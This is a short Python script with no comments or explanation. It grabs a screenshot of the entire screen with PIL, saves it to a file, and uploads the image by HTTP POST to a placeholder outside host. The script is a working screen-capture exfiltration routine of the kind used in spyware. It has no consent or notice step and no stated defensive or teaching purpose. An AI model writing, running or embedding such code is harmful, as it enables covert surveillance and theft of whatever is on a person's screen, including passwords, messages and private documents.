import requests
from PIL import ImageGrab

picture = ImageGrab.grab()
picture.save("now.png")
requests.post("https://example.invalid/", files={"now": open("now.png", "rb")})
